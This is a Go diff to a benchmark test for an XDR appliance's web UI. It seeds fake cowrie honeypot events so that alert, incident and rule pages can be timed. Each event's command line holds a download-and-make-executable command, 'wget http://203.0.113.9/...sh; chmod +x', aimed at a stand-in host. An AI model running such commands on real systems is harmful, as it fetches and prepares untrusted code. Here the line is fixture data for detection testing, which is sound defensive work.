@@ -1,6 +1,7 @@
 package ui_test
 
 import (
+	"context"
 	"flag"
 	"fmt"
 	"net/http"
@@ -12,6 +13,7 @@ import (
 
 	"github.com/minixdr/xdr/appliance"
 	"github.com/minixdr/xdr/appliance/command"
+	"github.com/minixdr/xdr/appliance/detect"
 	"github.com/minixdr/xdr/storage/storetest"
 	"github.com/minixdr/xdr/ui"
 )
@@ -21,8 +23,14 @@ import (
 //	go test ./ui -run '^$' -bench BenchmarkPages -benchtime 200x
 //
 // Each page reports its p50 and p95 server time; the target is p95 < 100 ms
-// with 1,000,000 events stored.
-var benchEvents = flag.Int("bench.events", 1_000_000, "events stored for BenchmarkPages")
+// with 1,000,000 events and 10,000 alerts stored.
+var (
+	benchEvents = flag.Int("bench.events", 1_000_000, "events stored for BenchmarkPages")
+	benchAlerts = flag.Int("bench.alerts", 10_000, "alerts raised for BenchmarkPages")
+)
+
+// benchAttackers is how many addresses the alerts come from.
+const benchAttackers = 2000
 
 // benchNow is the benchmark's wall clock: the events span the 30 days
 // before it.
@@ -59,13 +67,41 @@ func BenchmarkPages(b *testing.B) {
 		log.MustApply(c)
 	}
 	b.Logf("stored %d events in %v", n, time.Since(start).Round(time.Millisecond))
+	// Honeypot commands that the built-in rule turns into alerts: one each,
+	// from benchAttackers addresses (so that many incidents), over 30 days.
+	start = time.Now()
+	for first := 0; first < *benchAlerts; first += batch {
+		c := &command.IngestBatch{Tenant: "default", Source: "cowrie", BatchID: "alerts-" + strconv.Itoa(first)}
+		for i := first; i < min(first+batch, *benchAlerts); i++ {
+			ts := benchNow.Add(-time.Duration(float64(30*24*time.Hour) * float64(*benchAlerts-i) / float64(*benchAlerts)))
+			c.Events = append(c.Events, storetest.Event("default", "cowrie", ts, uint64(n+i), map[string]any{
+				"event.action": "command-input", "event.dataset": "cowrie", "host.name": "hp-1", "user.name": "root",
+				"source.ip":            fmt.Sprintf("198.51.%d.%d", (i%benchAttackers)/250, (i%benchAttackers)%250),
+				"process.command_line": "wget http://203.0.113.9/b" + strconv.Itoa(i) + ".sh; chmod +x b.sh",
+			}))
+		}
+		log.MustApply(c)
+	}
+	alerts, err := store.Alerts(context.Background(), detect.AlertQuery{Tenant: "default", Limit: 1})
+	if err != nil || len(alerts.Alerts) == 0 {
+		b.Fatalf("no alerts were raised: %v", err)
+	}
+	b.Logf("stored %d honeypot commands in %v", *benchAlerts, time.Since(start).Round(time.Millisecond))
+	incs, total, err := store.IncidentList(context.Background(), appliance.IncidentFilter{Tenant: "default", Limit: 1})
+	if err != nil || total == 0 {
+		b.Fatalf("no incidents: %v", err)
+	}
+	b.Logf("%d incidents", total)
 	h := ui.New(ui.Deps{Auth: &fakeAuth{}, Events: store, Node: fakeNode{true}, Metrics: http.NotFoundHandler(),
-		Log: storetest.Discard, Now: func() time.Time { return benchNow }}).Handler()
+		Detect: detect.NewService(&storetest.Proposer{Store: store}, store, func() time.Time { return benchNow }),
+		Log:    storetest.Discard, Now: func() time.Time { return benchNow }}).Handler()
 	anID := benchEvent(n/2, n).ID.String()
 	for _, p := range []string{
 		"/dashboard", "/dashboard?range=1h", "/dashboard?range=7d", "/dashboard?range=30d",
 		"/events", "/events?q=user.name%3Auser-7", "/events?q=failed", "/events?q=event.outcome%3Asuccess+AND+host.name%3Ahost-3",
 		"/events/" + anID,
+		"/alerts", "/alerts?q=severity%3Ahigh+AND+source.ip%3A198.51.1.*", "/incidents", "/incidents?status=&sort=severity",
+		"/incidents?status=&page=20", "/incidents/" + incs[0].ID, "/rules", "/attack", "/attack?range=30d",
 	} {
 		b.Run(p, func(b *testing.B) {
 			var took []time.Duration
